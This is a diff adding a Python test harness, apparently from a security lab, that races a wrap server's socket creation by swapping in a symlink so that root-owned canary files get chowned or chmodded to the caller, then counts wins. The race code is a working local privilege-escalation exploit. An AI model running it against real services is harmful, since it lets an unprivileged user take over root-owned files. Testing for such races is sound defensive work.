@@ -1,0 +1,372 @@
+"""The symlink race on a wrap socket (SPEC H3, AGENTSH.md G1/E5). Stdlib only; one JSON
+object on stdout.
+
+    python3 -m wraplab.actors.symlink_race prepare --dir D --count N      (as root)
+    python3 -m wraplab.actors.symlink_race race --dir D --count N --base TMP
+        [--api unix:SOCK] [--kind notify|signal|ptrace] [--seconds S] [--spin S]
+    python3 -m wraplab.actors.symlink_race check --dir D --count N        (as root)
+
+``prepare`` makes ``D`` (0755 root) holding N canary files ``c-<i>`` (0600 root:root, a
+random content each). ``race`` runs as the caller of wrap-init (the owner): for each try it
+creates a session, has a helper process send wrap-init with ``caller_uid = getuid()``,
+learns the new wrap directory's name from inotify on the temp base (IN_CREATE, the name is
+in the event), then spins ``lstat(<dir>/<kind>-<id>.sock)`` and, the moment the socket
+exists, ``rename()``s a prepared symlink to canary ``c-<i>`` over it (one atomic syscall).
+A server that chowns/chmods the socket *by path* after that follows the symlink and hands
+the canary over. After each try the racer stats its canary (the directory is 0755, so any
+user can stat the 0600 file in it) and counts a win when its owner or mode changed.
+``check`` re-reads every canary as root: the authoritative count.
+
+Bounded: at most ``--count`` tries and ``--seconds`` in all; each spin at most ``--spin``
+seconds; each wrap-init at most 10 s.
+"""
+
+from __future__ import annotations
+
+import argparse
+import ctypes
+import ctypes.util
+import errno
+import hashlib
+import http.client
+import json
+import os
+import re
+import secrets
+import select
+import socket
+import stat
+import struct
+import sys
+import time
+
+IN_CREATE = 0x00000100
+IN_ISDIR = 0x40000000
+IN_NONBLOCK = 0o4000
+IN_CLOEXEC = 0o2000000
+_EVENT = struct.Struct("iIII")
+PATH_LIMIT = 104
+
+
+def emit(obj, code=0):
+    sys.stdout.write(json.dumps(obj, sort_keys=True) + "\n")
+    sys.stdout.flush()
+    sys.exit(code)
+
+
+def canary(d: str, i: int) -> str:
+    return os.path.join(d, f"c-{i:05d}")
+
+
+# ------------------------------------------------------------------ prepare / check (root)
+
+
+def prepare(args) -> dict:
+    os.makedirs(args.dir, mode=0o755, exist_ok=True)
+    os.chown(args.dir, 0, 0)
+    os.chmod(args.dir, 0o755)
+    for i in range(args.count):
+        p = canary(args.dir, i)
+        fd = os.open(p, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_NOFOLLOW, 0o600)
+        try:
+            os.write(fd, secrets.token_hex(8).encode())
+            os.fchown(fd, 0, 0)
+            os.fchmod(fd, 0o600)
+        finally:
+            os.close(fd)
+    st = os.lstat(canary(args.dir, 0)) if args.count else None
+    return {"dir": args.dir, "count": args.count,
+            "sample": None if st is None else {"uid": st.st_uid, "gid": st.st_gid,
+                                                "mode": f"{stat.S_IMODE(st.st_mode):04o}"}}
+
+
+def changed(st) -> bool:
+    return st.st_uid != 0 or st.st_gid != 0 or stat.S_IMODE(st.st_mode) != 0o600
+
+
+def check(args) -> dict:
+    won = []
+    missing = 0
+    for i in range(args.count):
+        try:
+            st = os.lstat(canary(args.dir, i))
+        except FileNotFoundError:
+            missing += 1
+            continue
+        if changed(st) or not stat.S_ISREG(st.st_mode):
+            won.append({"try": i, "uid": st.st_uid, "gid": st.st_gid,
+                        "mode": f"{stat.S_IMODE(st.st_mode):04o}"})
+    return {"dir": args.dir, "count": args.count, "changed": len(won), "missing": missing,
+            "examples": won[:10]}
+
+
+# ------------------------------------------------------------------------ the race
+
+
+class UnixHTTP(http.client.HTTPConnection):
+    def __init__(self, path, timeout):
+        super().__init__("localhost", timeout=timeout)
+        self.unix_path = path
+
+    def connect(self):
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.settimeout(self.timeout)
+        s.connect(self.unix_path)
+        self.sock = s
+
+
+def request(api: str, method: str, path: str, body=None, timeout=10.0):
+    scheme, _, rest = api.partition(":")
+    if scheme == "unix":
+        conn = UnixHTTP(rest, timeout)
+    else:
+        host, _, port = rest.rpartition(":")
+        conn = http.client.HTTPConnection(host, int(port), timeout=timeout)
+    try:
+        data = None if body is None else json.dumps(body).encode()
+        conn.request(method, path, body=data, headers={"Connection": "close",
+                                                         "Content-Type": "application/json"})
+        resp = conn.getresponse()
+        raw = resp.read()
+        try:
+            parsed = json.loads(raw) if raw else None
+        except ValueError:
+            parsed = raw.decode("utf-8", "replace")
+        return resp.status, parsed
+    except (OSError, http.client.HTTPException) as exc:
+        return None, type(exc).__name__
+    finally:
+        conn.close()
+
+
+def socket_ident(dirpath: str, session_id: str) -> str:
+    """The id part of the socket name (SPEC §1 path budget)."""
+    ident = os.path.basename(session_id)
+    budget = PATH_LIMIT - len(os.fsencode(dirpath)) - 13
+    if len(ident.encode()) > budget > 0:
+        ident = hashlib.sha256(ident.encode()).hexdigest()[: min(budget, 64)]
+    return ident
+
+
+def helper(api: str, r: int, w: int) -> None:
+    """Child: for each session id read from ``r``, send wrap-init; write the answer to ``w``."""
+    f = os.fdopen(r, "r")
+    out = os.fdopen(w, "w")
+    uid = os.getuid()
+    for line in f:
+        sid = line.strip()
+        if not sid:
+            break
+        body = {"agent_command": "true", "agent_args": []}
+        if uid:
+            body["caller_uid"] = uid
+        status, resp = request(api, "POST", f"/api/v1/sessions/{sid}/wrap-init", body)
+        err = resp.get("error") if isinstance(resp, dict) else (resp if status is None else None)
+        out.write(json.dumps({"status": status, "error": err}) + "\n")
+        out.flush()
+    os._exit(0)
+
+
+class Inotify:
+    def __init__(self, path: str):
+        libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
+        self.fd = libc.inotify_init1(IN_NONBLOCK | IN_CLOEXEC)
+        if self.fd < 0:
+            raise OSError(ctypes.get_errno(), "inotify_init1")
+        if libc.inotify_add_watch(self.fd, os.fsencode(path), IN_CREATE) < 0:
+            raise OSError(ctypes.get_errno(), "inotify_add_watch " + path)
+
+    def drain(self) -> None:
+        while True:
+            try:
+                if not os.read(self.fd, 65536):
+                    return
+            except BlockingIOError:
+                return
+
+    def wait_dir(self, prefix: str, deadline: float) -> str | None:
+        """The name of the next directory created whose name starts with ``prefix``."""
+        while True:
+            left = deadline - time.monotonic()
+            if left <= 0:
+                return None
+            # Busy-poll the non-blocking fd: a select() wake-up costs the tens of
+            # microseconds the server needs from mkdtemp to bind.
+            try:
+                buf = os.read(self.fd, 65536)
+            except BlockingIOError:
+                continue
+            off = 0
+            while off + _EVENT.size <= len(buf):
+                _wd, mask, _cookie, n = _EVENT.unpack_from(buf, off)
+                name = buf[off + _EVENT.size: off + _EVENT.size + n].rstrip(b"\0").decode()
+                off += _EVENT.size + n
+                if mask & IN_ISDIR and name.startswith(prefix):
+                    return name
+
+
+def race(args) -> dict:
+    uid = os.getuid()
+    base = args.base.rstrip("/") or "/"
+    t_start = time.monotonic()
+    deadline = t_start + args.seconds
+    ino = Inotify(base)
+    r1, w1 = os.pipe()
+    r2, w2 = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        os.close(w1)
+        os.close(r2)
+        helper(args.api, r1, w2)
+    os.close(r1)
+    os.close(w2)
+    to_helper = os.fdopen(w1, "w")
+    from_helper = os.fdopen(r2, "r")
+    poll = select.poll()
+    poll.register(r2, select.POLLIN)
+
+    def answered() -> bool:
+        """The server has answered wrap-init (nothing more will appear this try)."""
+        return bool(poll.poll(0))
+    tally = {"tries": 0, "wins": 0, "swapped": 0, "no_dir": 0, "no_socket": 0,
+             "swap_errors": {}, "http": {}, "errors": {}}
+    wins = []
+    spin_counts = []
+    swap_after_us = []
+    link_tmp = os.path.join(base, f".wraplab-race-{os.getpid()}")
+    try:
+        for i in range(args.count):
+            if time.monotonic() >= deadline:
+                break
+            status, body = request(args.api, "POST", "/api/v1/sessions", {})
+            if status != 201 or not isinstance(body, dict):
+                tally["errors"][f"session:{status}"] = tally["errors"].get(
+                    f"session:{status}", 0) + 1
+                if tally["errors"][f"session:{status}"] > 5:
+                    break
+                continue
+            sid = body["id"]
+            target = canary(args.dir, i)
+            try:
+                os.unlink(link_tmp)
+            except FileNotFoundError:
+                pass
+            os.symlink(target, link_tmp)
+            ino.drain()
+            tally["tries"] += 1
+            to_helper.write(sid + "\n")
+            to_helper.flush()
+            name = ino.wait_dir(args.prefix, time.monotonic() + 10)
+            spins = 0
+            if name is None:
+                tally["no_dir"] += 1
+            else:
+                d = os.path.join(base, name)
+                sock = os.path.join(d, f"{args.kind}-{socket_ident(d, sid)}.sock")
+                lstat = os.lstat
+                stop = time.monotonic() + args.spin
+                seen = False
+                link = link_tmp
+                while True:
+                    spins += 1
+                    try:
+                        lstat(sock)
+                    except FileNotFoundError:
+                        # The directory is ours already (we can search it) and the
+                        # socket is not bound yet: move the symlink in, so the swap is a
+                        # rename inside one directory (cheaper than across two).
+                        if link is link_tmp:
+                            try:
+                                os.rename(link_tmp, os.path.join(d, ".l"))
+                                link = os.path.join(d, ".l")
+                            except OSError:
+                                pass
+                        if spins & 255 == 0 and (time.monotonic() > stop or answered()):
+                            break
+                        continue
+                    except OSError:
+                        if spins & 255 == 0 and (time.monotonic() > stop or answered()):
+                            break
+                        continue
+                    seen = True
+                    t_seen = time.perf_counter()
+                    try:
+                        os.rename(link, sock)
+                    except OSError as exc:
+                        key = errno.errorcode.get(exc.errno or 0, str(exc.errno))
+                        tally["swap_errors"][key] = tally["swap_errors"].get(key, 0) + 1
+                    else:
+                        tally["swapped"] += 1
+                        swap_after_us.append(round((time.perf_counter() - t_seen) * 1e6, 1))
+                    break
+                if not seen:
+                    tally["no_socket"] += 1
+            spin_counts.append(spins)
+            line = from_helper.readline()
+            try:
+                res = json.loads(line)
+            except ValueError:
+                res = {"status": None, "error": "helper: " + line.strip()[:100]}
+            key = str(res.get("status"))
+            tally["http"][key] = tally["http"].get(key, 0) + 1
+            if res.get("status") != 200 and len(tally["errors"]) < 8:
+                why = re.sub(r"/\S+", "<path>", str(res.get("error")))[:120]
+                tally["errors"][why] = tally["errors"].get(why, 0) + 1
+            try:
+                st = os.stat(target)
+                if changed(st):
+                    tally["wins"] += 1
+                    wins.append({"try": i, "uid": st.st_uid,
+                                 "mode": f"{stat.S_IMODE(st.st_mode):04o}",
+                                 "http": res.get("status")})
+            except OSError as exc:
+                tally["errors"]["stat:" + errno.errorcode.get(exc.errno or 0, "?")] = 1
+    finally:
+        try:
+            to_helper.write("\n")
+            to_helper.flush()
+            to_helper.close()
+        except OSError:
+            pass
+        try:
+            os.waitpid(pid, 0)
+        except OSError:
+            pass
+        try:
+            os.unlink(link_tmp)
+        except OSError:
+            pass
+    elapsed = time.monotonic() - t_start
+    spin_counts.sort()
+    return {"uid": uid, "kind": args.kind, "base": base, "count": args.count,
+            "seconds": round(elapsed, 3), **tally,
+            "rate": round(tally["wins"] / tally["tries"], 4) if tally["tries"] else None,
+            "examples": wins[:10],
+            "spins_median": spin_counts[len(spin_counts) // 2] if spin_counts else None,
+            "swap_us_median": sorted(swap_after_us)[len(swap_after_us) // 2]
+            if swap_after_us else None}
+
+
+def main(argv=None):
+    p = argparse.ArgumentParser(prog="symlink_race", description=__doc__.splitlines()[0])
+    p.add_argument("mode", choices=("prepare", "race", "check"))
+    p.add_argument("--dir", required=True, help="the canary directory")
+    p.add_argument("--count", type=int, required=True)
+    p.add_argument("--api", default="unix:/run/wrapref/api.sock")
+    p.add_argument("--base", default="/tmp", help="the server's temp base")
+    p.add_argument("--prefix", default="wrap-", help="wrap directory name prefix")
+    p.add_argument("--kind", choices=("notify", "signal", "ptrace"), default="notify")
+    p.add_argument("--seconds", type=float, default=60.0)
+    p.add_argument("--spin", type=float, default=0.5)
+    args = p.parse_args(argv)
+    if not 0 <= args.count <= 100000:
+        p.error("--count: 0..100000")
+    try:
+        out = {"prepare": prepare, "race": race, "check": check}[args.mode](args)
+    except OSError as exc:
+        emit({"error": f"{type(exc).__name__}: {exc}"}, 1)
+    emit(out)
+
+
+if __name__ == "__main__":
+    main()
